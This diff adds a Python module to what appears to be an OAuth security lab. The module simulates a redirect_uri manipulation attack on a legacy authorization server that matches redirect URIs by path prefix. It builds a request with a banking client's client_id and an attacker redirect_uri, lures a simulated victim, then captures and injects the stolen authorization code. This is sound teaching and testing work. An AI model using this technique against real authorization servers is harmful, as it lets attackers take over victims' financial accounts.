@@ -1,0 +1,55 @@
+"""redirect-uri-manipulation: FinLens's client_id with the attacker's redirect_uri (A1).
+
+attacks.md §3 E. The attacker builds an authorization request with client_id=tpp and
+redirect_uri on its own site. A legacy AS matches registered URIs by path prefix and
+ignores ports on loopback hosts (RFC 6749 §3.1.2 leaves the comparison open; BCP §4.1
+shows why it must be exact), so https://127.0.0.1:<site>/callback passes for FinLens's
+https://127.0.0.1:<tpp>/callback. The lured victim consents on a page naming FinLens; the
+code lands on the attacker's site; the attacker injects it into its own FinLens session.
+"""
+
+from __future__ import annotations
+
+import secrets
+from urllib.parse import quote, urlencode
+
+from attacker import fixtures
+from attacker import frontchannel as fc
+from attacker.context import AttackContext
+from attacker.inject import inject_code
+from attacker.model import Attack
+from lab.authserver.clients import TPP_CLIENT_ID
+
+STEAL_PATH = "/callback"   # FinLens's path: the prefix the legacy AS compares
+
+
+def run(ctx: AttackContext) -> None:
+    fx = fixtures.ensure_running(ctx)
+    since = fx.mark()
+    redirect_uri = fx.site + STEAL_PATH
+    url = ctx.url("as", "/authorize") + "?" + urlencode({
+        "response_type": "code", "client_id": TPP_CLIENT_ID, "redirect_uri": redirect_uri,
+        "scope": fc.FINLENS_SCOPE, "state": secrets.token_urlsafe(16)})
+    ctx.step("attacker", f"builds an authorization request for FinLens's client_id with "
+             f"redirect_uri={redirect_uri} and mails the victim a link to it", url=url)
+    victim = ctx.victim("alice")
+    victim.sign_in()
+    result = victim.authorize(fx.site + "/lure?to=" + quote(url, safe=""), deliver=False)
+    victim.visit(result.callback_url or "")
+    got = [r for r in fx.received(ctx, "site", since=since, path=STEAL_PATH)
+           if r.query().get("code")]
+    if not got:
+        ctx.failed("no code reached the attacker's site")
+    code = got[-1].query()["code"]
+    ctx.step("attacker", "reads the victim's code from its own site's log")
+    inject_code(ctx, code, victim.username, iss=got[-1].query().get("iss"),
+                source="its site received")
+
+
+ATTACK = Attack(
+    id="redirect-uri-manipulation", attacker="A1", legs=("own",), victim="live",
+    premise="Runs the attacker site; knows FinLens's client_id and redirect URI (public); the "
+            "victim follows its link and consents on a page that names FinLens.",
+    goal="the attacker's FinLens account shows the victim's accounts", run=run,
+    refs=("BCP §4.1", "BCP §2.1", "RFC 6749 §10.6", "RFC 6749 §3.1.2"),
+)
